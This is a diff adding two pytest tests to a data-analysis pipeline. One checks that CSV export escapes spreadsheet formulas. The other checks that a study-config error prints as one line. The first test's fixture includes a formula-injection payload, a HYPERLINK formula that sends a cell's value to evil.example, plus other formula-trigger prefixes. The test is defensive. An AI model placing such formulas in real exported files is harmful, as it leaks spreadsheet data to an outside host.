@@ -250,3 +250,41 @@ def test_a_notebook_whose_name_is_no_plain_name_is_refused(tmp_path, name):
     nbformat.write(new_notebook(cells=[]), tmp_path / f"{name}.ipynb")
     with pytest.raises(ReportError, match="letters, digits, - and _ only"):
         run_config.discover_runs(tmp_path)
+
+
+def test_a_csv_download_holds_no_formula_a_spreadsheet_would_run(tmp_path):
+    """G9: a study's facts text reached ``pilot_constraints_*.csv`` verbatim (``=HYPERLINK(...)``,
+    ``@SUM``, ``+``, a tab before ``=``); the XLSX of the same table stored it as text."""
+    import pandas as pd
+
+    from analysis.pipeline.export import write_csv
+
+    texts = ['=HYPERLINK("https://evil.example/?d="&D3,"30 deelnemers")', "@SUM(1+1)", "+2 combineren",
+             "\t=2+2 zijn", "-2+3 zorg", "-1.5", "-", "30 deelnemers", None]
+    frame = pd.DataFrame({"tekst": texts, "n": range(len(texts))}, index=pd.Index(["=a"] + ["b"] * 8, name="rij"))
+    write_csv(frame, tmp_path / "t.csv")
+    back = pd.read_csv(tmp_path / "t.csv", dtype=str, keep_default_na=False)
+    assert back["tekst"].tolist()[:7] == ["'" + t for t in texts[:5]] + ["-1.5", "-"]
+    assert back["rij"].iloc[0] == "'=a" and back["n"].tolist() == [str(i) for i in range(len(texts))]
+    assert frame["tekst"].iloc[0].startswith("="), "the caller's table is left as it is"
+
+
+def test_a_studies_folder_with_two_defaults_is_one_line_not_a_traceback(monkeypatch, capsys):
+    """G7: a copied study that kept ``default: true`` made every ``report`` command a 36-line
+    traceback (its message, inside, was right)."""
+    import argparse
+
+    from analysis import cli
+    from analysis.study.load import StudyError
+
+    def handler(_args):
+        raise StudyError("exactly one study file of the folder says default: true; these do: a, b")
+
+    class Parser:
+        def parse_args(self, _argv):
+            return argparse.Namespace(handler=handler)
+
+    monkeypatch.setattr(cli, "parser", Parser)
+    assert cli.main(["report"]) == 1
+    err = capsys.readouterr().err
+    assert err == "error: exactly one study file of the folder says default: true; these do: a, b\n"
